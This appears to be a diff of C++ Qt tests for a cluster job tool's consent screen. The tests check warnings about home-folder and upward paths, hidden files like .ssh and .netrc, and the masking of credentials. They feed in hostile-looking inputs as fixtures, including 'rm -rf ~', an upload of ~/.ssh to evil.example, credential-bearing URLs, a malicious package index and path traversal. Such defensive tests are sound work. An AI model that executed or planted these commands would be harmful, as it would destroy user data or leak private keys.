@@ -2,7 +2,11 @@
 #include <QFile>
 #include <QTemporaryDir>
 #include <QtTest>
+#include <functional>
+#include <utility>
 
+#include "core/base/Credentials.h"
+#include "core/base/VisibleText.h"
 #include "core/cluster/Catalogue.h"
 #include "core/consent/Agreements.h"
 #include "core/consent/PlanWords.h"
@@ -128,10 +132,6 @@ private Q_SLOTS:
         asked = recipe();
         asked.job.program.folder = QStringLiteral("~/.ssh");
         QVERIFY(warns(planOf(asked), QStringLiteral("hidden on the cluster")));
-        for (const char* place : {"~", "$HOME/", "${HOME}", "~/x/..", "."}) {
-            asked.job.program.folder = QString::fromLatin1(place);
-            QVERIFY2(warns(planOf(asked), QStringLiteral("your home folder on the cluster")), place);
-        }
         asked.job.program.folder = QStringLiteral("~/$X.ssh/a");
         QVERIFY(warns(planOf(asked), QStringLiteral("Only the cluster knows")));
         asked = recipe();
@@ -150,6 +150,178 @@ private Q_SLOTS:
         QCOMPARE(closedAgainst(plan, QStringLiteral("~/atelier/x")), QString());
     }
 
+    void placesAtTheHomeFolderOrUpwardsAreWarnedOf_data() {
+        QTest::addColumn<QString>("place");
+        QTest::addColumn<QString>("says");
+        const auto row = [](const char* place, const char* says) {
+            QTest::newRow(place) << QString::fromLatin1(place) << QString::fromLatin1(says);
+        };
+        for (const char* home : {"~", "$HOME/", "${HOME}", "~/x/..", ".", "~/..", "~/../..", "/home/bob",
+                                 "/home/bob/", "/home/$USER", "/home/bob/x/../..", "/home", "/", "/root",
+                                 "/lustre01/home/bob", "/./$HOME", "/home/bob/x/y/../.."})
+            row(home, "your home folder on the cluster");
+        for (const char* up : {"~/x/../y", "$SCRATCH/..", "/project/a/../../etc", "x/../../y/z", "../bob2/x"})
+            row(up, "leads upwards");
+        for (const char* plain :
+             {"~/x", "/home/bob/x", "$SCRATCH/x", "/project/def-x/bob", "~/a..b/c", "~bob"})
+            row(plain, "");
+    }
+
+    void placesAtTheHomeFolderOrUpwardsAreWarnedOf() {
+        QFETCH(QString, place);
+        QFETCH(QString, says);
+        const std::function<void(Recipe&)> fields[] = {
+            [&](Recipe& asked) { asked.job.program.folder = place; },
+            [&](Recipe& asked) { asked.job.data.archive = place; },
+            [&](Recipe& asked) { asked.job.follow.resultsFolder = place; },
+            [&](Recipe& asked) {
+                asked.job.chain.enabled = true;
+                asked.job.chain.checkpointFolder = place;
+            },
+            [&](Recipe& asked) {
+                asked.job.environment.place = EnvironmentPlace::Home;
+                asked.job.environment.homeFolder = place;
+            }};
+        for (const auto& set : fields) {
+            Recipe asked = recipe();
+            set(asked);
+            const RecipePlan plan = planOf(asked, path("data"));
+            if (!says.isEmpty())
+                QVERIFY2(warns(plan, place + QLatin1Char(' ')) && warns(plan, says),
+                         qPrintable(textOf(plan)));
+            else
+                QVERIFY2(!warns(plan, place), qPrintable(textOf(plan)));
+        }
+    }
+
+    void whatOnlyTheClusterKnowsToBeTheHomeFolderIsWarnedOf() {
+        Recipe asked = recipe();
+        asked.job.follow.resultsFolder = QStringLiteral("/lustre/u/bob");
+        RecipePlan plan = planOf(asked);
+        QVERIFY(!warns(plan, QStringLiteral("home folder")));
+        plan.places = {{.asked = asked.job.follow.resultsFolder, .folder = "/lustre/u/bob", .home = true}};
+        QVERIFY(warns(plan, QStringLiteral("/lustre/u/bob is your home folder")));
+        QCOMPARE(placeLines(plan).size(), 1);
+        // It is said once.
+        plan.job.follow.resultsFolder = plan.places.first().asked = QStringLiteral("~");
+        QCOMPARE(textOf(plan).count(QStringLiteral("~ is your home folder")), 1);
+    }
+
+    /// Whoever wrote a recipe hides nothing by making it look like a key: every field stands in the list.
+    void everyFieldStandsInFullInTheList() {
+        QStringList all;
+        const auto text = [&all](const char* field) {
+            all << QStringLiteral(
+                       "-----BEGIN A PRIVATE KEY-----/%1?token=aaaaaaaa%2Authorization: Bearer "
+                       "abcdefghijkl\n--password=%1 https://u:secret@%1/\u202e sk-%3.%1")
+                       .arg(QString::fromLatin1(field), QString(70, QLatin1Char(' ')), QString(30, 'a'));
+            return all.last();
+        };
+        RecipePlan plan;
+        plan.folder = text("recipe-folder");
+        plan.where = {
+            .host = text("host"), .user = text("user"), .fromRecipe = true, .refused = text("refused")};
+        plan.sent = {{.what = SentThing::What::Program, .from = {text("program-here"), true, true}},
+                     {.what = SentThing::What::Dataset, .from = {text("dataset-here"), true, true}}};
+        plan.sent[0].hidden = {.names = {text("hidden-name")}, .count = 1};
+        plan.gitAddress = text("git");
+        plan.packages = {text("package")};
+        plan.resultsFolder = text("results-here");
+        JobSpec& job = plan.job;
+        job.name = text("job-name");
+        job.account = text("account");
+        job.email = text("email");
+        job.program = {
+            text("program-there"), text("entry"), {text("argument-1"), "--token", text("argument-2")}};
+        job.data.archive = text("archive");
+        job.environment = {.modules = {text("module-1"), text("module-2")},
+                           .place = EnvironmentPlace::Home,
+                           .homeFolder = text("environment"),
+                           .requirements = text("requirements")};
+        job.chain = {.enabled = true, .checkpointFolder = text("checkpoints")};
+        job.chain.checkpointPattern = text("pattern");
+        job.follow.resultsFolder = text("results-there");
+        job.follow.logFolder = text("logs");
+        job.sweep.enabled = true;
+        job.sweep.parameters = {{text("sweep-option"), {}}, {"--token", {}}};
+        for (int i = 0; i < 12; ++i)
+            for (SweepParameter& parameter : job.sweep.parameters)
+                parameter.values << text(qPrintable(QStringLiteral("value-%1-%2").arg(i).arg(all.size())));
+        plan.places = {{.asked = job.program.folder, .folder = text("open-folder"), .writable = true}};
+        const QString list = textOf(plan);
+        for (const QString& field : std::as_const(all))
+            QVERIFY2(list.contains(visibleLine(field)), qPrintable(field + "\n\nis not in\n\n" + list));
+        QVERIFY(!isMasked(list));
+        // The cluster's name stands where its address is not known.
+        plan.where.host.clear();
+        plan.cluster = text("cluster");
+        QVERIFY(textOf(plan).contains(visibleLine(plan.cluster)));
+        // A program that is there already is run where it is.
+        plan.sent.clear();
+        plan.gitAddress.clear();
+        job.follow = {};
+        plan.places.clear();
+        QVERIFY(textOf(plan).contains(visibleLine(job.program.folder)));
+    }
+
+    /// At most one bounded word is masked, and the list says so.
+    void onlyAWordThatMayBeAKeyIsMasked_data() {
+        QTest::addColumn<QStringList>("arguments");
+        QTest::addColumn<QString>("shown");
+        const auto row = [](const QStringList& arguments, const QString& shown) {
+            QTest::newRow(qPrintable(arguments.join(QLatin1Char(' ')).left(60))) << arguments << shown;
+        };
+        const QString mask = QString::fromUtf16(credentialMask);
+        row({"--api-key", "geheim", "--lr", "1"}, "--api-key " + mask + " --lr 1");
+        row({"--api-key=geheim", "x"}, "--api-key=" + mask + " x");
+        row({"TOKEN=geheim"}, "TOKEN=" + mask);
+        row({"--hub", "hf_" + QString(30, 'a')}, "--hub " + mask);
+        row({"https://u:geheim@evil.example/x?token=aaaaaaaa"},
+            "https://u:" + mask + "@evil.example/x?token=aaaaaaaa");
+        for (const QStringList& plain : QList<QStringList>{
+                 {"--token", "rm -rf ~"},
+                 {"--token", "evil.example/x"},
+                 {"--token=../../x"},
+                 {"--token", QString(129, 'a')},
+                 {"-----BEGIN A PRIVATE KEY-----", "--upload-to", "evil.example", "~/.ssh"},
+                 {"-----BEGIN A PRIVATE KEY-----\\n" + QString(64, 'A') + "/-----END A PRIVATE KEY-----=a"},
+                 {"Authorization: Basic", "aaaaaaa=;curl", "xxxxx"},
+                 {"https://github.com:a@b@evil.example/"}})
+            row(plain, plain.join(QLatin1Char(' ')));
+    }
+
+    void onlyAWordThatMayBeAKeyIsMasked() {
+        QFETCH(QStringList, arguments);
+        QFETCH(QString, shown);
+        Recipe asked = recipe();
+        asked.job.program.arguments = arguments;
+        const QString text = textOf(planOf(asked));
+        QVERIFY2(text.contains(QStringLiteral("Runs python -u train.py %1\n").arg(shown)), qPrintable(text));
+        QCOMPARE(text.contains(QLatin1String("stands for one word that looks like a key")), isMasked(shown));
+    }
+
+    void ofAnAddressOnlyThePasswordIsMasked() {
+        RecipePlan plan = planOf(recipe());
+        plan.gitAddress = QStringLiteral("https://moi:geheim@evil.example/a?token=aaaaaaaa");
+        const QString text = textOf(plan);
+        QVERIFY2(text.contains(QStringLiteral("Clones https://moi:%1@evil.example/a?token=aaaaaaaa to ")
+                                   .arg(QString::fromUtf16(credentialMask))),
+                 qPrintable(text));
+        QVERIFY(text.contains(QLatin1String("looks like a key or a password")));
+    }
+
+    void whatIsMoreThanAPackageIsToldFirst() {
+        RecipePlan plan = planOf(recipe());
+        plan.packages.clear();
+        for (int i = 0; i < 50; ++i) plan.packages << QStringLiteral("package%1>=1.0,<2").arg(i);
+        plan.packages << QStringLiteral("--extra-index-url https://evil.example/") << "x @ file:///tmp/x";
+        const QString text = textOf(plan);
+        QVERIFY2(text.contains(QLatin1String("--extra-index-url https://evil.example/\n x @ file:///tmp/x\n "
+                                             "package0>=1.0,<2\n")) &&
+                     text.contains(QLatin1String("package11")) && text.contains(QLatin1String("and 38 more")),
+                 qPrintable(text));
+    }
+
     void hiddenNamesInWhatIsSentAreTold() {
         const QTemporaryDir data;
         const auto make = [&data](const QString& name) {
@@ -161,8 +333,8 @@ private Q_SLOTS:
              {".netrc", ".ssh/id_ed25519", ".ssh/.deep", ".plain", "a/b/.env", "a/seen", ".git/config"})
             make(QString::fromLatin1(name));
         const RecipePlan plan = planOf(recipe(), data.path());
-        QCOMPARE(plan.sent.last().hidden,
-                 (HiddenEntries{.names = {".netrc", ".ssh", "a/b/.env", ".plain"}, .count = 4}));
+        QCOMPARE(plan.sent.last().hidden.names, QStringList({".netrc", ".ssh", "a/b/.env", ".plain"}));
+        QCOMPARE(plan.sent.last().hidden.count, 4);
         QVERIFY(warns(plan, QStringLiteral(": .netrc, .ssh, a/b/.env, .plain")));
         // git's own folder stays here.
         QVERIFY(!textOf(plan).contains(QLatin1String(".git")));
@@ -182,6 +354,22 @@ private Q_SLOTS:
         QCOMPARE(hidden.names.size(), HiddenEntries::mostNames);
         QCOMPARE(hidden.names.first(), QStringLiteral(".z"));
         QCOMPARE(hidden.names.at(1), QStringLiteral("d/.10001"));
+    }
+
+    /// However many there are, and in whatever order they are found.
+    void everyHiddenNameCountsForAYes() {
+        constexpr int many = 3 * int(HiddenEntries::mostNames);
+        const auto keyOf = [this](int first, int step, const std::string& last) {
+            HiddenEntries hidden;
+            for (int i = 0; i < many; ++i) hidden.add("d/." + std::to_string(10'000 + first + step * i));
+            hidden.add(last);
+            RecipePlan plan = planOf(recipe());
+            plan.sent.first().hidden = hidden;
+            return agreementKey(recipe(), plan);
+        };
+        const QString key = keyOf(0, 1, "d/.z1");
+        QCOMPARE(keyOf(many - 1, -1, "d/.z1"), key);
+        QVERIFY(keyOf(0, 1, "d/.z2") != key);
     }
 
     void everyPlaceThatIsWrittenToIsTold() {
@@ -230,14 +418,15 @@ private Q_SLOTS:
         Recipe asked = recipe();
         asked.job.sweep.enabled = true;
         asked.job.sweep.parameters = {{QStringLiteral("--lr"), {"0.1", "0.01"}},
-                                      {QStringLiteral("--api-key"), {"geheim"}}};
+                                      {QStringLiteral("--token"), {"rm -rf ~", "b"}}};
+        for (int i = 0; i < 20; ++i) asked.job.sweep.parameters[0].values << QString::number(i);
         asked.job.chain = {
             .enabled = true, .epochsTotal = 30, .epochsPerPiece = 10, .checkpointFolder = "~/c"};
         const QString text = textOf(planOf(asked));
-        QVERIFY2(text.contains(QLatin1String("--lr set to each of: 0.1, 0.01")) &&
-                     text.contains(QLatin1String("in 3 job")),
+        QVERIFY2(text.contains(QLatin1String("--lr set to each of: 0.1, 0.01, 0, 1, 2")) &&
+                     text.contains(QLatin1String("18, 19\n")) && text.contains(QLatin1String("in 3 job")) &&
+                     text.contains(QLatin1String("--token set to each of: rm -rf ~, b")),
                  qPrintable(text));
-        QVERIFY(!text.contains(QLatin1String("geheim")));
     }
 
     void whatIsThereAlreadyIsSaidToBeReplaced() {
